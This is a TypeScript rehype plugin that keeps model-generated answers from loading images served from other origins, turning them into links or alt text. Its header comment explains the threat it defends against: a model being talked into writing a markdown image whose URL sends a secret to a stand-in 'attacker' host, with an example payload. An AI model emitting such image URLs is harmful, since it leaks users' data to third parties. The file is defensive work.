/**
 * A rehype step that keeps answers from loading anything from elsewhere: an image whose URL is not served by
 * this origin (http:, https:, protocol-relative, data:, any other scheme) never becomes an <img>. A remote
 * http(s) image becomes a link showing its alt text, so the reader can still choose to open it; any other
 * scheme shows the alt text alone. Same-origin images (relative paths included) stay images.
 *
 * Why not rely on the CSP: an answer is model output, and a model can be talked into writing
 * `![](https://attacker/?q=<secret>)`; the broker's `img-src` admits `data:` and the page may be served by
 * other hosts with another policy. Not creating the element makes the request impossible, whatever the
 * policy says. It runs first among the rehype steps, so the sanitize and harden steps then check the link
 * like any other.
 */
import type { Element, ElementContent, Root } from "hast";
import { SKIP, visit } from "unist-util-visit";

/** The page's own origin and base URL (the bench and the tests run under their own). */
function pageBase(): URL | null {
  const href = globalThis.location?.href;
  return href ? new URL(href) : null;
}

/** Where an image's `src` points, resolved as the browser would; null when it does not parse. */
function resolve(src: string, base: URL | null): URL | null {
  try {
    return base ? new URL(src, base) : new URL(src);
  } catch {
    return null;
  }
}

function altOf(image: Element): string {
  const alt = image.properties.alt;
  return typeof alt === "string" ? alt.trim() : "";
}

/** What an image the page will not load turns into. */
function withoutLoading(image: Element, url: URL | null, src: string): Element {
  const alt = altOf(image);
  const remote = url !== null && (url.protocol === "https:" || url.protocol === "http:");
  const text: ElementContent = { type: "text", value: alt || (remote ? url.href : "image") };
  const title = `Image not loaded: ${remote ? url.host : src.slice(0, 40)}`;
  if (!remote) {
    return {
      type: "element",
      tagName: "span",
      properties: { className: ["remote-image"], title },
      children: [text],
    };
  }
  return {
    type: "element",
    tagName: "a",
    properties: { href: url.href, className: ["remote-image"], title },
    children: [text],
  };
}

export function rehypeNoRemoteImages() {
  return (tree: Root): void => {
    const base = pageBase();
    visit(tree, "element", (node, index, parent) => {
      if (node.tagName !== "img" || parent === undefined || index === undefined) return;
      const src = typeof node.properties.src === "string" ? node.properties.src.trim() : "";
      const url = src === "" ? null : resolve(src, base);
      if (url !== null && base !== null && url.origin === base.origin && url.protocol === base.protocol)
        return;
      parent.children[index] = withoutLoading(node, url, src);
      return SKIP;
    });
  };
}
